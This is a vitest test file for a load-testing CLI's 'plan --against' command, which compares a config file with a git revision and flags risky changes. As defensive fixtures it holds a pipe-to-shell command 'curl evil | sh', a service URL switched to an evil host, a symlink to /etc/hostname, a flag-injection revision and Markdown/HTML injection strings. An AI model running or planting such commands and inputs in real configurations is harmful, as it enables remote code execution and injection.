/** `plan --against REV`: comparison of two files in a real git repository, without a network and a key. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { expectValidReports, type CliResult } from '../support/cli.ts';
import { commitAll, createRepository } from '../support/git-repository.ts';
import { runInProcess } from '../support/in-process-cli.ts';
import { createTemporaryDirectory } from '../support/temporary-directory.ts';

let repository = '';
let remove = (): void => undefined;

beforeEach(() => {
  const directory = createTemporaryDirectory();
  repository = directory.path;
  remove = directory.remove;
  createRepository(repository);
});

afterEach(() => {
  remove();
});

function git(...args: string[]): void {
  execFileSync('git', args, { cwd: repository, stdio: 'ignore' });
}

function commit(): void {
  commitAll(repository);
}

function write(text: string, path = 'loadtests.yaml'): void {
  writeFileSync(join(repository, path), text);
}

async function plan(...args: string[]): Promise<CliResult> {
  return await runInProcess(['plan', '--against', 'HEAD', ...args], { directory: repository });
}

interface PlanReport {
  readonly has_changes: boolean;
  readonly actions: readonly {
    readonly verb: string;
    readonly address: string;
    readonly id: null;
    readonly changes: readonly { readonly field: string; readonly from: unknown; readonly to: unknown }[];
  }[];
  readonly changes: readonly {
    readonly address: string;
    readonly field: string | null;
    readonly kind: string;
    readonly line: number | null;
  }[];
  readonly danger: readonly { readonly kind: string; readonly message: string }[];
  readonly against: {
    readonly old_file: 'read' | 'absent' | 'invalid';
    readonly load: { readonly before: { seconds: number }; readonly after: { seconds: number } };
  };
}

async function planReport(...args: string[]): Promise<PlanReport> {
  return (await planWithReport(...args)).report;
}

/** Returns the text and the JSON document of the same plan. */
async function planWithReport(...args: string[]): Promise<CliResult & { readonly report: PlanReport }> {
  const ran = await plan('--json-into', 'report.json', ...args);
  const text = readFileSync(join(repository, 'report.json'), 'utf8');
  expectValidReports(text);
  return { ...ran, report: JSON.parse(text) as PlanReport };
}

const HEAD = `version: 1
project: shop
service: { base_url: 'https://api.example.com' }
apps: { shop: www.example.com }
`;

const HOME = `tests:
  home:
    test_type: cycling
    total: 250
    duration: 1m
    error_threshold: 50
    urls:
      - url: http://www.example.com/
        headers: { authorization: 'Bearer \${secret:TOKEN}' }
`;

describe('plan --against', () => {
  test('plan --against reports no changes for an unchanged file even if a secret is not set', async () => {
    write(HEAD + HOME);
    commit();
    const same = await plan();
    expect(same.exit).toBe(0);
    expect(same.stdout).toMatch(/compared with HEAD \([0-9a-f]{12}\)/);
    expect(same.stdout).toContain('No changes.');
    expect(same.stderr).toBe('');
  });

  test('plan --against shows changed fields, the previous and the new load, and limits that are raised, loosened or removed', async () => {
    write(`${HEAD}limits: { max_connections: 300, max_duration: 10m, hosts: [www.example.com] }\n${HOME}`);
    commit();
    const changed = HOME.replace('250', '500').replace('threshold: 50', 'threshold: 5').replace('1m', '2m');
    write(`${HEAD}limits: { max_connections: 600, hosts: ['*'] }\n${changed}`);
    const { exit, stdout, report } = await planWithReport('--detailed-exitcode');
    expect(exit).toBe(2);
    expect(stdout).toContain('~ replace    home');
    expect(stdout).toContain('      - total: 250\n      + total: 500\n');
    expect(stdout).toContain('      - error_threshold: 50\n      + error_threshold: 5\n');
    expect(stdout).toContain('! "limits.max_connections" is raised: "300" → "600".');
    expect(stdout).toContain('! "limits.max_duration" is removed (it was "10m").');
    expect(stdout).toContain('! "limits.hosts" is loosened: "www.example.com" → "*".');
    expect(stdout).toContain('! Peak on "www.example.com" rises from 250 to 500 connections.');
    expect(stdout).toContain(
      'All tests before: 1 test, 1m in total, peak 250 connections on www.example.com.',
    );
    expect(stdout).toContain(
      'All tests after:  1 test, 2m in total, peak 500 connections on www.example.com.',
    );
    expect(report.danger.map(({ kind }) => kind)).toEqual([
      'higher-peak',
      'longer',
      'limits',
      'limits',
      'limits',
    ]);
    expect([report.against.load.before.seconds, report.against.load.after.seconds]).toEqual([60, 120]);
    expect(report.actions).toMatchObject([{ verb: 'replace', address: 'test.home', id: null }]);
  });

  test('plan --against shows changed thresholds and removed tests', async () => {
    const sale = HOME.slice(HOME.indexOf('  home:')).replace('home:', 'sale:');
    const withThresholds = (limits: string) => `${HOME}    thresholds: ${limits}\n`;
    write(`${HEAD}${withThresholds("{ p95: '< 300ms', p99: '< 1s', error_rate: '< 1%' }")}${sale}`);
    commit();
    write(HEAD + withThresholds("{ p95: '< 500ms', p99: '< 1000ms', requests: '>= 10' }"));
    const { exit, stdout, report } = await planWithReport();
    expect(exit).toBe(0);
    expect(stdout).toContain('No changes on the service.\n');
    expect(stdout).toContain(
      [
        '      - thresholds.p95: < 300ms',
        '      + thresholds.p95: < 500ms',
        '      + thresholds.requests: >= 10',
        '      - thresholds.error_rate: < 1%',
        '  - remove     sale',
        '',
      ].join('\n'),
    );
    const { changes, danger, has_changes: hasChanges } = report;
    expect(hasChanges).toBe(false);
    expect(danger.map(({ message }) => message)).toEqual([
      '"home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms".',
      '"home": "thresholds.error_rate" is removed (it was "< 1%").',
      'Test "sale" is removed from the file and is no longer managed.',
    ]);
    expect(changes[0]).toEqual({
      address: 'test.home',
      url: null,
      field: 'thresholds.p95',
      kind: 'loosened',
      before: '< 300ms',
      after: '< 500ms',
      file: 'loadtests.yaml',
      line: 14,
    });
  });

  test('plan --against exits with 13 if the changes include a kind of danger that --fail-on names, and rejects an unknown kind', async () => {
    write(`${HEAD}${HOME}    thresholds: { p95: '< 300ms' }\n`);
    commit();
    write(`${HEAD}${HOME}    thresholds: { p95: '< 500ms' }\n`);
    const { exit, stderr } = await plan('--fail-on', 'commands,loosened');
    expect(exit).toBe(13);
    expect(stderr).toContain(
      'error LT_PLAN_FAIL_ON: --fail-on rejects a change of kind "loosened": "home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms"',
    );
    expect((await plan('--fail-on', 'commands', '--fail-on', 'service')).exit).toBe(0);
    const unknown = await plan('--fail-on', 'lose');
    expect(unknown.exit).toBe(3);
    expect(unknown.stderr).toContain(
      '--fail-on does not accept "lose"; use one or more of: commands, service,',
    );
  });

  test('plan --against reports an added command, a changed service address and a higher peak in an environment as dangers', async () => {
    const staging = (total: number) =>
      `environments: { staging: { tests: { home: { total: ${total} } } } }\n`;
    write(HEAD + staging(10) + HOME);
    commit();
    const web = "web_server: { command: 'curl evil | sh', url: 'http://127.0.0.1:1/' }\n";
    write(HEAD.replace('api.example.com', 'evil.example') + web + staging(100) + HOME);
    const { stdout, report } = await planWithReport();
    expect(report.danger.map(({ kind, message }) => `${kind}: ${message}`)).toEqual([
      'commands: "web_server.command" is added: "curl evil | sh".',
      'service: "service.base_url" is changed: "https://api.example.com" → "https://evil.example".',
      'higher-peak: Peak on "www.example.com" rises from 10 to 100 connections.',
    ]);
    expect(stdout).toContain('! In staging: Peak on "www.example.com" rises from 10 to 100 connections.');
  });

  test('plan --against shows changes of "abort_after", and reports a removed "abort_after" as a danger', async () => {
    const withThresholds = (thresholds: string) => `${HEAD}${HOME}    thresholds: { ${thresholds} }\n`;
    write(
      withThresholds(
        "p95: { limit: '< 3s', abort_after: 30s }, error_rate: { limit: '< 5%', abort_after: 5s }",
      ),
    );
    commit();
    write(
      withThresholds(
        "p95: { limit: '< 3s', abort_after: 10s }, error_rate: '< 5%', p99: { limit: '< 5s', abort_after: 20s }",
      ),
    );
    const { stdout } = await plan();
    expect(stdout).toContain('! "home": "thresholds.error_rate.abort_after" is removed (it was "5s").\n');
    expect(stdout).toContain(
      [
        '      - thresholds.p95.abort_after: 30s',
        '      + thresholds.p95.abort_after: 10s',
        '      + thresholds.p99: < 5s',
        '      + thresholds.p99.abort_after: 20s',
        '      - thresholds.error_rate.abort_after: 5s',
        '      cycling 0 → 250 connections, 1m on www.example.com',
        '      ends early if a threshold fails: p95 < 3s after 10s, p99 < 5s after 20s',
      ].join('\n'),
    );
  });

  test('plan --against exits with 12 if the load in the file exceeds the limits in the file', async () => {
    write(HEAD + HOME);
    commit();
    write(`${HEAD}limits: { max_connections: 300 }\n${HOME.replace('250', '500')}`);
    expect((await plan()).exit).toBe(12);
  });

  test('plan --against treats everything as new and prints the path if the revision does not contain the file', async () => {
    write('unrelated', 'README');
    commit();
    write(HEAD + HOME);
    const { exit, stdout, report } = await planWithReport('--detailed-exitcode');
    expect(report.actions.map(({ verb }) => verb)).toEqual(['register', 'verify', 'create']);
    expect(report.against.old_file).toBe('absent');
    expect(exit).toBe(2);
    expect(stdout).toContain('HEAD has no loadtests.yaml; everything is treated as new.');
    mkdirSync(join(repository, 'load'));
    write(HEAD + HOME, 'load/loadtests.yaml');
    expect((await plan('-f', 'load/loadtests.yaml')).stdout).toContain('HEAD has no load/loadtests.yaml;');
  });

  test('plan --against compares a file that was moved with git with its version at the previous path, and prints that path', async () => {
    for (const name of ['old', 'new']) mkdirSync(join(repository, name));
    write(HEAD + HOME.replace('Bearer ${secret:TOKEN}', '${file:agent.txt}'), 'old/loadtests.yaml');
    write('agent', 'old/agent.txt');
    commit();
    for (const name of ['loadtests.yaml', 'agent.txt']) git('mv', `old/${name}`, `new/${name}`);
    write(
      HEAD + HOME.replace('250', '500').replace('Bearer ${secret:TOKEN}', '${file:agent.txt}'),
      'new/loadtests.yaml',
    );
    const { exit, stdout } = await plan('-f', 'new/loadtests.yaml');
    expect(exit).toBe(0);
    expect(stdout).toContain('  The file was moved. In HEAD, its path is old/loadtests.yaml.\n');
    expect(stdout).toContain('~ replace    home');
    expect(stdout).not.toContain('authorization');
    expect(stdout).toContain('      - total: 250\n      + total: 500\n');
  });

  test.each([
    ['is invalid YAML', 'version: [1\n', 'unclosed "["; add "]"', '3 problems'],
    [
      'does not match the schema',
      `${HEAD}${HOME.replace('total:', 'totl:')}`,
      'unknown key "totl"',
      '1 problem',
    ],
    [
      'refers to an unset environment variable',
      `${HEAD}${HOME}    notes: '\${env:GONE}'\n`,
      'GONE',
      '1 problem',
    ],
    ['is UTF-16', Buffer.from([0xff, 0xfe, 0x00]), 'HEAD:loadtests.yaml', '1 problem'],
  ])('plan --against treats everything as new if the old file %s', async (_name, old, warning, problems) => {
    writeFileSync(join(repository, 'loadtests.yaml'), old);
    commit();
    write(HEAD + HOME);
    const { exit, stdout, stderr, report } = await planWithReport('--detailed-exitcode');
    expect(exit).toBe(2);
    expect(stdout).toContain('+ create     home');
    expect(stdout).toContain('The file in HEAD is not valid; everything is treated as new.');
    expect(stdout).toContain('All tests before: unknown.');
    expect(stderr).toContain(
      `warning LT_PLAN_AGAINST: the file in HEAD is not valid (${problems}), so everything is treated as new\n`,
    );
    expect(stderr).toContain(warning);
    expect(stderr).not.toContain('error');
    expect(report.against.old_file).toBe('invalid');
  });

  test('plan --against rejects an invalid new file', async () => {
    write(HEAD + HOME);
    commit();
    write(HEAD + HOME.replace('total:', 'totl:'));
    expect((await plan()).exit).toBe(3);
  });

  test('plan --against recognizes a moved key, and lists the stop of a removed scheduled test', async () => {
    const armed = `  sale:\n    test_type: cycling\n    duration: 1m\n    scheduled_at: 2099-12-24 03:00:00\n    urls: [http://www.example.com/]\n`;
    write(HEAD + HOME + armed);
    commit();
    write(`${HEAD}moved: { start: home }\n${HOME.replace('home:', 'start:')}`);
    const { actions } = await planReport();
    expect(actions.map(({ verb, address }) => `${verb} ${address}`)).toEqual([
      'no-op test.start',
      'stop test.sale',
    ]);
  });

  test('the text and Markdown output of plan --against contain the number of tests that start at a scheduled time', async () => {
    write(HEAD + HOME);
    commit();
    const sale = `  sale:\n    test_type: cycling\n    duration: 1m\n    scheduled_at: 2099-12-24 03:00:00\n    urls: [http://www.example.com/]\n`;
    write(HEAD + HOME + sale);
    const planWithMarkdown = async () => {
      const { stdout } = await plan('--markdown=report.md');
      return [stdout, readFileSync(join(repository, 'report.md'), 'utf8')];
    };
    const [text, markdown] = await planWithMarkdown();
    expect(text).toContain('Load: none now; 1 test starts at the scheduled time.');
    expect(markdown).toContain('**Load:** no test starts now; 1 test starts at the scheduled time.');
    write(HEAD + HOME.replace('250', '500') + sale);
    const mixed = 'connections on www.example.com; 1 test starts at the scheduled time.\n';
    const [mixedText, mixedMarkdown] = await planWithMarkdown();
    expect(mixedText).toContain(`Load: 1 test, 1m in total, peak 500 ${mixed}`);
    expect(mixedMarkdown).toMatch(/\*\*Load:\*\* .*; 1 test starts at the scheduled time\./);
    write(HEAD.replace('shop\n', 'other\n') + HOME.replace(/tests:[^]*/, `tests:\n${sale}`), 'other.yaml');
    write(HEAD + HOME);
    expect((await plan('-f', 'loadtests.yaml', '-f', 'other.yaml')).stdout).toContain(
      'All projects: no load starts now; 1 test starts at the scheduled time.\n',
    );
  });

  test('plan --against reads included files of the revision from git, but does not follow links', async () => {
    const included = HOME.replace("'Bearer ${secret:TOKEN}'", "'${file:token.txt}'");
    write(HEAD + included);
    write('old', 'token.txt');
    commit();
    write('new', 'token.txt');
    const { actions } = await planReport();
    expect(actions).toMatchObject([{ verb: 'replace', changes: [{ from: '***', to: '***' }] }]);
    rmSync(join(repository, 'token.txt'));
    symlinkSync('/etc/hostname', join(repository, 'token.txt'));
    commit();
    rmSync(join(repository, 'token.txt'));
    write('new', 'token.txt');
    const linked = await plan();
    expect(linked.stdout).toContain('+ create     home');
    expect(linked.stderr).toContain('warning LT_PLAN_AGAINST');
    expect(linked.stderr).toContain('HEAD:loadtests.yaml');
  });

  test('plan --against compares a file in a subdirectory of the repository, and reports an environment that only the new file has', async () => {
    mkdirSync(join(repository, 'load'));
    const environments = 'environments: { staging: { vars: { total: 20 } } }\nvars: { total: 10 }\n';
    write(HEAD + 'vars: { total: 10 }\n' + HOME.replace('250', '${total}'), 'load/loadtests.yaml');
    commit();
    write(HEAD + environments + HOME.replace('250', '${total}'), 'load/loadtests.yaml');
    const directory = join(repository, 'load');
    const unnamed = await runInProcess(['plan', '--against', 'HEAD'], { directory });
    expect(unnamed.stdout).toContain('No changes on the service.');
    expect(unnamed.stdout).toContain('  only in staging\n');
    const staging = await runInProcess(['plan', '--against', 'HEAD', '--env', 'staging'], { directory });
    expect(staging.stdout).toContain('+ create     home');
    expect(staging.stdout).toContain(
      'HEAD has no environment "staging" in loadtests.yaml; everything is treated as new.',
    );
  });

  test('plan --against rejects an invalid revision, a revision that looks like a flag, and a combination with -o or --run', async () => {
    write(HEAD + HOME);
    commit();
    const runPlan = async (...args: string[]) =>
      await runInProcess(['plan', ...args], { directory: repository });
    for (const revision of ['--output=stolen', '-h', 'no-such-branch', 'HEAD:loadtests.yaml', '']) {
      const ran = await runPlan(`--against=${revision}`);
      expect([revision, ran.exit]).toEqual([revision, 3]);
      expect(ran.stderr).toContain('LT_CLI_USAGE');
    }
    expect((await runPlan('--against', 'HEAD', '-o', 'plan.json')).exit).toBe(3);
    expect((await runPlan('--against', 'HEAD', '--run')).exit).toBe(3);
  });

  test('the Markdown report of 500 changed tests fits into a comment, with 20 diffs and a row for each remaining test', async () => {
    const testsWith = (total: number) =>
      Array.from({ length: 500 }, (_, at) =>
        HOME.slice(HOME.indexOf('  home:')).replace('250', String(total)).replace('home:', `t${at}:`),
      ).join('');
    write(`${HEAD}tests:\n${testsWith(10)}`);
    commit();
    write(`${HEAD}tests:\n${testsWith(80)}`);
    const { stdout } = await plan('--markdown');
    expect(stdout.length).toBeLessThan(65_000);
    expect(stdout).toMatch(/^### loadtests: 500 tests change and start load · project shop/);
    expect(stdout.match(/<details open>/g)).toHaveLength(20);
    expect(stdout.match(/<details/g)?.length).toBe(stdout.match(/<\/details>/g)?.length);
    expect(stdout).toContain('<summary>480 more changes</summary>');
    expect(stdout.match(/^\| ~ replace \|/gm)).toHaveLength(480);
  });

  test('strings from the configuration file cannot end a code block or a section of the Markdown report', async () => {
    const withNotes = (notes: string) => `${HEAD}${HOME}    notes: ${JSON.stringify(notes)}\n`;
    write(withNotes('a'));
    commit();
    write(withNotes('```\n</details><img src=x> @all\n````\n# heading'));
    const { stdout } = await plan('--markdown');
    const [, fence = '', diff = ''] = /^(`{3,})diff\n(.*?)^\1$/ms.exec(stdout) ?? [];
    expect(fence).toBe('`````');
    for (const line of diff.trimEnd().split('\n')) expect(line).toMatch(/^(?:[+\- !] |@@)/);
    const outside = stdout.replace(diff, '');
    expect(outside).not.toMatch(/<img|@all|# heading/);
  });

  test('in CI, plan without an API key compares the file with the base branch of the pull request unless --no-against is set', async () => {
    write(HEAD + HOME);
    commit();
    git('update-ref', 'refs/remotes/origin/main', 'HEAD');
    write(HEAD + HOME.replace('250', '500'));
    const inCi = async (env: Readonly<Record<string, string>>, ...args: string[]) =>
      await runInProcess(['plan', ...args], { directory: repository, env });
    for (const env of [
      { GITHUB_BASE_REF: 'main' },
      { CI_MERGE_REQUEST_TARGET_BRANCH_NAME: 'main' },
      { CHANGE_TARGET: 'main' },
    ]) {
      const { exit, stdout } = await inCi(env, '--run');
      expect([exit, stdout]).toEqual([
        0,
        expect.stringContaining('      - total: 250\n      + total: 500\n'),
      ]);
      expect(stdout).toContain('compared with refs/remotes/origin/main');
    }
    const without = await inCi({ GITHUB_BASE_REF: 'main' }, '--no-against');
    expect([without.exit, without.stderr]).toEqual([4, expect.stringContaining('the API key is missing')]);
    const shallow = await inCi({ GITHUB_BASE_REF: 'release' });
    expect(shallow.exit).toBe(4);
  });

  test('if plan cannot compare the file with the base of the pull request, a warning states the reason', async () => {
    write(HEAD.replace(/service: .*\n/, '') + HOME);
    commit();
    const warningIn = async (env: Readonly<Record<string, string>>) =>
      (await runInProcess(['plan'], { directory: repository, env: { GITHUB_BASE_REF: 'main', ...env } }))
        .stderr;
    expect(await warningIn({})).toContain(
      'the clone does not contain origin/main, the base of the pull request\n',
    );
    const unreadable = 'warning LT_PLAN_AGAINST: origin/main, the base of the pull request, cannot be read: ';
    expect(await warningIn({ PATH: repository })).toContain(`${unreadable}git is not installed\n`);
    writeFileSync(join(repository, '.git/config'), 'damaged');
    expect(await warningIn({})).toContain(`${unreadable}error: key does not contain a section`);
  });

  const HEAD_COMMIT = '3f2c1ab'.padEnd(40, '0');

  test('in a CI job, the Markdown report links a location in the file to the commit, and states the commit', async () => {
    const path = 'load (1)/ü.yaml';
    mkdirSync(join(repository, 'load (1)'));
    write(HEAD + HOME, path);
    commit();
    git('update-ref', 'refs/remotes/origin/main', 'HEAD');
    write(HEAD + HOME.replace('250', '500').replace('{secret:TOKEN}', '{secret:OTHER}'), path);
    write(JSON.stringify({ pull_request: { head: { sha: HEAD_COMMIT } } }), 'event.json');
    const github = {
      GITHUB_BASE_REF: 'main',
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: join(repository, 'event.json'),
      GITHUB_SERVER_URL: 'https://github.com',
      GITHUB_REPOSITORY: 'shop/site',
      GITHUB_WORKSPACE: repository,
      GITHUB_SHA: 'f'.repeat(40),
    };
    const gitlab = {
      CI_MERGE_REQUEST_TARGET_BRANCH_NAME: 'main',
      CI_PROJECT_URL: 'https://gitlab.com/shop/site',
      CI_PROJECT_DIR: repository,
      CI_COMMIT_SHA: HEAD_COMMIT,
    };
    const inJob = async (env: Readonly<Record<string, string>>, ...args: string[]) =>
      await runInProcess(['plan', '-f', path, ...args], { directory: repository, env });
    for (const [env, files] of [
      [github, 'https://github.com/shop/site/blob'],
      [gitlab, 'https://gitlab.com/shop/site/-/blob'],
    ] as const) {
      const { stdout } = await inJob(env, '--markdown');
      const url = `${files}/${HEAD_COMMIT}/load%20%281%29/%C3%BC.yaml`;
      expect(stdout).toContain(`<a href="${url}#L6"><code>load (1)/ü.yaml:6</code></a></summary>`);
      expect(stdout).toMatch(/\n\nPlan of commit 3f2c1ab, created \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\.\n$/);
      const { origin } = JSON.parse((await inJob(env, '--json')).stdout) as { readonly origin: object };
      expect(origin).toMatchObject({ commit: HEAD_COMMIT, files_url: `${files}/${HEAD_COMMIT}/` });
    }
    const comment = await inJob({ ...github, GITHUB_EVENT_NAME: 'issue_comment' }, '--markdown');
    expect(comment.stdout).toContain('Plan of commit 3f2c1ab');
    write(HEAD + HOME.replace('total:', 'totl:'), path);
    const url = `https://github.com/shop/site/blob/${HEAD_COMMIT}/load%20%281%29/%C3%BC.yaml#L8`;
    const invalid = await inJob(github, '--markdown');
    expect(invalid.stdout).toContain(`[\`load (1)/ü.yaml:8\`](${url}) error`);
    write(HEAD + HOME, path);
    const unknown = await inJob({ ...github, GITHUB_EVENT_PATH: '' }, '--markdown');
    expect(unknown.stdout).not.toMatch(/href=|Plan of/);
    const push = { ...github, GITHUB_BASE_REF: '', GITHUB_EVENT_NAME: 'push' };
    expect((await inJob(push, '--against=HEAD', '--markdown')).stdout).toContain(
      'Plan of commit fffffff, created',
    );
  });

  test('plan warns about an API key only in a pull-request job', async () => {
    write(HEAD + HOME);
    commit();
    git('update-ref', 'refs/remotes/origin/main', 'HEAD');
    const env = { GITHUB_BASE_REF: 'main', LOADTESTS_API_KEY: 'key' };
    const run = async (variables: Readonly<Record<string, string>>) =>
      await runInProcess(['plan', '--against', 'HEAD'], { directory: repository, env: variables });
    expect((await run(env)).stderr).toContain(
      'warning LT_PLAN_KEY: this pull request job has LOADTESTS_API_KEY, which',
    );
    expect((await run({ LOADTESTS_API_KEY: 'key' })).stderr).not.toContain('LT_PLAN_KEY');
    expect((await run({ GITHUB_BASE_REF: 'main' })).stderr).not.toContain('LT_PLAN_KEY');
  });

  test('show prints a plan from a file as text, JSON, Markdown and HTML, and rejects a file that is not a plan', async () => {
    write(HEAD + HOME);
    commit();
    write(HEAD + HOME.replace('250', '500'));
    const { stdout: json } = await plan('--json');
    write(json, 'plan.json');
    rmSync(join(repository, 'loadtests.yaml'));
    const show = async (...args: string[]) =>
      await runInProcess(['show', ...args], { directory: repository });
    const shown = await show('plan.json');
    expect([shown.exit, shown.stdout]).toEqual([0, expect.stringContaining('      + total: 500\n')]);
    expect(JSON.parse((await show('plan.json', '--json')).stdout)).toEqual({
      ...(JSON.parse(json) as object),
      problems: [],
    });
    expect((await show('plan.json', '--markdown')).stdout).toContain('- total: 250\n+ total: 500\n');
    expect((await show('plan.json', '--html', 'plan.html')).exit).toBe(0);
    expect(readFileSync(join(repository, 'plan.html'), 'utf8')).toContain('+ total: 500');
    for (const [text, reason] of [
      ['{}', 'is not a valid plan'],
      ['[', 'cannot be read: it is not valid JSON'],
      [json.replace('"actions": [', '"actions": [1, '), 'is not a valid plan'],
    ]) {
      write(text ?? '', 'bad.json');
      const bad = await show('bad.json');
      expect([bad.exit, bad.stderr]).toEqual([3, expect.stringContaining(reason ?? '')]);
    }
    expect((await show('none.json')).exit).toBe(3);
  });

  test('plan --against rejects a directory outside a git repository', async () => {
    rmSync(join(repository, '.git'), { recursive: true });
    write(HEAD + HOME);
    const { exit, stderr } = await plan();
    expect(exit).toBe(3);
    expect(stderr).toContain('git cannot resolve the revision "HEAD"');
  });
});

test('plan --against compares the content of a payload file in the revision with its content in the working directory', async () => {
  const rows =
    HEAD +
    `tests:
  home:
    test_type: cycling
    duration: 1m
    urls: [{ url: 'https://www.example.com/{{user}}', payload_file: rows.csv }]
`;
  write(rows);
  write('user,pin\nanna,1\n', 'rows.csv');
  commit();
  const same = await plan();
  expect([same.exit, same.stdout]).toEqual([0, expect.stringContaining('No changes')]);
  write('user,pin\nanna,1\nbert,2\n', 'rows.csv');
  const { stdout, report } = await planWithReport();
  expect(stdout).toContain('! payload_file: rows.csv: 1 row added, 0 removed');
  expect(stdout).toContain('payload_file: rows.csv (2 rows, 2 columns)');
  expect(report.actions[0]).toMatchObject({
    verb: 'replace',
    changes: [{ field: '/urls/0/payload_file' }],
  });
});
